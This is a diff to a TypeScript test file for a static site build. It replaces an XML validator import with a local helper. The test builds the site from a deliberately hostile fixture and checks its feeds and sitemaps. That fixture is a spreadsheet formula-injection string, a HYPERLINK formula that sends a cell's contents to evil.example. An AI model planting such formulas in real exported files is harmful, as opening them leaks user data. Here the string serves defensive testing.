@@ -3,12 +3,12 @@ import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import { parse as parseCsv } from 'csv-parse/sync';
-import { XMLValidator } from 'fast-xml-parser';
 import { parse } from 'node-html-parser';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { isFormulaLike } from '../../src/lib/formula-cells.ts';
 import { buildSite } from '../helpers/build-fixture.ts';
 import { copyFixture, editFile } from '../helpers/content.ts';
+import { checkWellFormedXml } from '../helpers/xml.ts';
 
 // The fixture as a careless editor or an attacker with commit rights might write it.
 const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
@@ -56,7 +56,7 @@ describe('a build of hostile content', () => {
   test('the feed and every sitemap are well-formed XML, with the names kept', async () => {
     const files = (await readdir(state.dist)).filter((f) => f.endsWith('.xml'));
     expect(files).toEqual(expect.arrayContaining(['rss.xml', 'sitemap-index.xml', 'sitemap-0.xml']));
-    for (const file of files) expect([file, XMLValidator.validate(await readFile(path.join(state.dist, file), 'utf8'))]).toEqual([file, true]);
+    for (const file of files) expect([file, checkWellFormedXml(await readFile(path.join(state.dist, file), 'utf8'))]).toEqual([file, true]);
     expect(await readFile(path.join(state.dist, 'rss.xml'), 'utf8')).toContain('测试区\u2066规范化');
   });
 
